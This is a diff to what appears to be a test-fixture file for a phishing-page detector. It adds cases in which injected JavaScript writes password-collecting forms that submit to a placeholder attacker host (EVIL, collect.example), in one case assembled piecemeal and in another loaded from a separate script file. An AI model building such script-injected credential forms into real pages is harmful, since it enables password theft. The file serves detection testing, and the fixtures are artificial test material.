@@ -46,6 +46,19 @@ export const FORMS: readonly Shape[] = [
     "abuse_rejected",
     { "next.html": signIn("Portal", "", `<form action="${EVIL}">`) },
   ),
+  page(
+    "a form that a script writes",
+    `<title>Document</title>${script(`document.body.innerHTML='<form action="${EVIL}"><input type="password" name="p"></form>'`)}`,
+    "written_form",
+  ),
+  page(
+    "a form that a script writes in pieces",
+    `<title>Document</title><p id="p"></p>${script(`let all='<form method="post" action="${EVIL}">';all+='<input name="u">';all+='<input type="password" name="p">';p.insertAdjacentHTML("afterend",all)`)}`,
+    "written_form",
+  ),
+  page("a form that a script's file writes", `<title>Document</title><script src="a.js"></script>`, "written_form", {
+    "a.js": `$("body").html('<form action="//collect.example/in"><label>Password <input name="x"></label></form>')`,
+  }),
 ];
 
 export const BOTS: readonly Shape[] = [
